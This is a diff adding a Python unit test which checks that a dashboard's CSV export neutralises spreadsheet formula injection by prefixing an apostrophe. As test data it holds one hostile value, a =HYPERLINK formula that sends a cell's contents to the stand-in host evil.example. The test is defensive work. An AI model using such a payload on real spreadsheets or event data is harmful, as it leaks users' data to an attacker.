@@ -157,3 +157,14 @@ def test_funnels_on_an_empty_database_say_how_to_get_data_in(make_window: Any, s
     trend = panel.trend_chart
     assert trend.showing_message and "tracklens collect" in trend.message_label.text()
     assert "tracklens collect" in panel.chart.message
+
+
+def test_panel_csv_export_quotes_formulas(tmp_path: Path) -> None:
+    """Export → CSV of every panel (write_csv): text a spreadsheet would run as a formula gets a
+    leading apostrophe (an event name sent with the public write key); numbers are unchanged."""
+    from app.ui.widgets.export import write_csv
+
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    path = tmp_path / "panel.csv"
+    write_csv(path, ["event", "=count"], [[hostile, 3], ["Page Viewed", -2.5], [None, 0]])
+    assert read_csv(path) == [["event", "'=count"], ["'" + hostile, "3"], ["Page Viewed", "-2.5"], ["", "0"]]
